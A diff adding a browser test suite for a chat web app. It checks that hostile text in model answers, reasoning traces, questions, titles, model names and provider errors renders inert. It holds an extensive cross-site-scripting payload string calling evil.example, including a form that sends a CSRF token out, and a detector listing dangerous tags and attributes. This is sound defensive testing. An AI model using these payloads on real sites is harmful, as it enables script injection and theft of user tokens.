@@ -1,0 +1,166 @@
+"""Whatever a model, its name or a question holds: nothing of it runs, loads, submits, or styles the page."""
+
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Page, Request, expect
+
+from tests.browser.chatting import UPSTREAM, answer, expect_state, play, reply, send
+from tests.servers import Site, site
+from tests.upstreams import RunningUpstream, ask
+
+NAME = "<img/src=x/onerror=window.ran='name'>"
+RUN = "window.ran='yes';alert(1)"
+HOSTILE = f"""
+<script>{RUN}</script><script src="https://evil.example/x.js"></script>
+
+<img src="https://evil.example/pixel.gif" onerror="{RUN}"> ![pixel](https://evil.example/track.gif "t")
+
+<svg/onload={RUN}><use href="https://evil.example/s.svg#x"/></svg><iframe srcdoc="<script>{RUN}</script>"></iframe>
+
+<style>body{{display:none}}@import "https://evil.example/x.css";</style><link rel=stylesheet href=//evil.example/y.css>
+
+[one](javascript:{RUN}) [two](JaVaScRiPt&#58;{RUN}) [three](data:text/html,<script>{RUN}</script>) [four](//evil.example/a)
+[five](vbscript:x) [six]( java&#10;script:{RUN} ) <javascript:{RUN}> [seven](https://evil.example/link)
+
+<a href="javascript:{RUN}" onclick="{RUN}" style="position:fixed;inset:0">over everything</a>
+<form action="https://evil.example/steal"><input name=csrfmiddlewaretoken autofocus onfocus="{RUN}"><button>Go</button></form>
+<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/"><object data=x></object>
+
+<div id=announcer hx-get="https://evil.example/hx" hx-trigger="load" data-hx-on:click="{RUN}">htmx</div>
+<chat-composer></chat-composer><streaming-reply data-state=thinking id=m-1></streaming-reply></div></section></article>
+
+| a | <b onmouseover={RUN}>b</b> |
+|---|---|
+| `<img src=x onerror={RUN}>` | <img src=x onerror={RUN}> |
+
+```html"><img src=x onerror={RUN}>
+</code></pre><script>{RUN}</script>
+```
+
+$\\href{{javascript:{RUN}}}{{x}}$ $\\text{{<script>{RUN}</script>}}$ $$\\url{{javascript:{RUN}}}$$
+
+<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>
+<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript><template><script>{RUN}</script></template>
+
+- <details open ontoggle={RUN}>x</details>
+- <video src=https://evil.example/v onloadstart={RUN}></video>
+
+&lt;script&gt;{RUN}&lt;/script&gt; \u202eevil\u202c \u0000 <!--><script>{RUN}</script>-->
+
+The end of it.
+"""
+INSIDE = """(reply) => {
+    const shown = [...reply.querySelectorAll("[data-position] *")];
+    const bad = "script style link meta base iframe object embed form input button[type=submit] video audio template";
+    const found = shown.filter((element) => element.matches(bad.replaceAll(" ", ",")));
+    const attributes = shown.flatMap((element) => [...element.attributes])
+        .filter(({ name, value }) => /^(on|hx-|data-hx|style|srcdoc|formaction|id)/.test(name) || /^\\s*(javascript|data|vbscript):/i.test(value));
+    const loading = shown.filter((element) => element.matches("img[src], image[href], use"));
+    return [...found, ...loading].map((element) => element.outerHTML)
+        .concat(attributes.map(({ name, value, ownerElement }) => `${name}=${value} on ${ownerElement.localName}`));
+}"""
+LINKS = "(reply) => [...reply.querySelectorAll('[data-position] a')].map((a) => [a.protocol, a.rel])"
+
+
+@pytest.fixture(scope="module")
+def workings(tmp_path_factory: pytest.TempPathFactory, model: RunningUpstream) -> Iterator[Site]:
+    """One of whose models has a hostile name."""
+    environment = model.environment | {"COMPATIBLE_MODELS": f"upstream,{NAME}", "GENERATIONS_PER_USER": "50"}
+    scripted = {"SCRIPTED_PROVIDER": "on", "SCRIPTED_SPEED": "20"}
+    with site(tmp_path_factory.mktemp("site"), **environment | scripted) as running:
+        yield running
+
+
+@pytest.fixture
+def guarded(chat: Page, workings: Site) -> Iterator[Page]:
+    """A chat that must stay at home, and open no dialog."""
+    elsewhere: list[str] = []
+
+    def watch(request: Request) -> None:
+        if not request.url.startswith((workings.url, "data:", "blob:")):
+            elsewhere.append(request.url)
+
+    chat.on("request", watch)
+    chat.on("dialog", lambda dialog: (elsewhere.append(f"dialog {dialog.message}"), dialog.dismiss()))
+    yield chat
+    assert chat.evaluate("window.ran") is None
+    assert chat.evaluate("getComputedStyle(document.body).display") != "none"
+    assert chat.evaluate("window.violations") == []
+    assert chat.locator("#announcer").count() == 1
+    assert elsewhere == []
+
+
+def harmless(page: Page) -> None:
+    assert reply(page).evaluate(INSIDE) == []
+    for protocol, rel in reply(page).evaluate(LINKS):
+        assert protocol in {"http:", "https:", "mailto:"}
+        assert set(rel.split()) >= {"noopener", "nofollow", "ugc"}
+
+
+def test_a_hostile_answer_is_inert_while_it_streams_and_afterwards(guarded: Page) -> None:
+    send(guarded, ask("answer", thinking_text="Let me see.", answer_text=HOSTILE, rate=150))
+    for _ in range(10):
+        guarded.wait_for_timeout(250)
+        harmless(guarded)
+    expect_state(reply(guarded), "done")
+    expect(answer(reply(guarded))).to_contain_text("The end of it.")
+    harmless(guarded)
+    guarded.reload()
+    expect(answer(reply(guarded))).to_contain_text("The end of it.")
+    harmless(guarded)
+
+
+def test_hostile_thinking_is_inert_while_it_streams_and_afterwards(guarded: Page) -> None:
+    send(guarded, ask("thinking", thinking_text=HOSTILE, answer_text="Nothing ran.", rate=150))
+    for _ in range(10):
+        guarded.wait_for_timeout(250)
+        harmless(guarded)
+    expect_state(reply(guarded), "done")
+    harmless(guarded)
+    guarded.reload()
+    guarded.locator("reasoning-trace summary").click()
+    expect(guarded.locator(".trace")).to_contain_text("The end of it.")
+    harmless(guarded)
+
+
+def test_the_hostile_script_of_the_scripted_provider_is_inert(guarded: Page) -> None:
+    expect_state(play(guarded, "hostile-html"), "done")
+    expect(answer(reply(guarded))).to_contain_text('<script>alert("this one is only shown")</script>')
+    harmless(guarded)
+
+
+def test_a_hostile_question_and_title_are_text_everywhere(guarded: Page) -> None:
+    question = "<img src=x onerror=window.ran=1></title><script>window.ran=1</script>"
+    send(guarded, question)
+    expect_state(reply(guarded), "done")
+    for place in (".user .bubble", "h1[data-title]", "#sidebar a .t"):
+        expect(guarded.locator(place).first).to_have_text(question)
+    assert question in guarded.title()
+    guarded.reload()
+    expect(guarded.locator("h1[data-title]")).to_have_text(question)
+    guarded.locator("#sidebar li").first.hover()
+    guarded.locator("#sidebar .more").first.click()
+    expect(guarded.get_by_role("button", name=f"More for {question}")).to_have_count(1)
+
+
+def test_a_hostile_model_name_is_text_everywhere(guarded: Page) -> None:
+    guarded.locator(".chip.model").click()
+    guarded.locator("#model-menu .mi", has_text=NAME).click()
+    guarded.keyboard.press("Escape")
+    expect(guarded.locator("[data-model-name]")).to_have_text(NAME)
+    guarded.get_by_role("textbox", name="Message").fill(ask("name", chunks=4, rate=0))
+    guarded.get_by_role("button", name="Send").click()
+    expect_state(reply(guarded), "done")
+    expect(reply(guarded).locator(".by b")).to_have_text(NAME)
+    guarded.goto("/settings/")
+    expect(guarded.locator("#control-model option", has_text=NAME)).to_have_count(1)
+
+
+def test_a_hostile_error_of_a_provider_is_text(guarded: Page) -> None:
+    send(guarded, ask("error", status=400, message=HOSTILE[:1500]), UPSTREAM)
+    expect_state(reply(guarded), "failed")
+    expect(reply(guarded).locator("[data-notice]")).to_be_visible()
+    reply(guarded).locator("[data-notice] summary").click()
+    expect(reply(guarded).locator("[data-notice]")).to_contain_text("<script>")
+    assert reply(guarded).locator("[data-notice] :is(script, img, iframe, style)").count() == 0
